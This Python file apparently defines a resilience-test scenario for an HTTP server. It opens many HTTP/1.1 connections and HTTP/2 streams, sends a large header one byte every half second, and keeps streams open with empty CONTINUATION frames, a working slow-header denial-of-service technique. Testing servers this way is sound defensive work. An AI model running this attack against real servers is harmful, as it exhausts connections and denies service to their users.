"""Clients send a byte of a head twice a second, over HTTP/1.1 and within a field block of HTTP/2."""

import contextlib
import time

import wire

OPTIONS = ("--max-connections", "2000")


def attack(victim):
    text = wire.head("/fetch/good/hit-0", [wire.BIG_HEADER])
    block = wire.frame(wire.CONTINUATION, 0, 1, b"")

    def drip(number):
        with contextlib.ExitStack() as held:
            plain = [held.enter_context(victim.connect()) for _ in range(25)]
            blocks = [victim.http2() for _ in range(25)]
            for connection in blocks:
                held.callback(connection.close)
                connection.send(wire.frame(wire.HEADERS, wire.END_STREAM, 1, b"\x82"))
            for at in range(len(text)):
                for sock in plain:
                    sock.sendall(text[at:at + 1])
                for connection in blocks:
                    connection.send(block)
                time.sleep(0.5)

    wire.crowd(12 * victim.scale, drip)
    time.sleep(0.5)
    victim.begun()
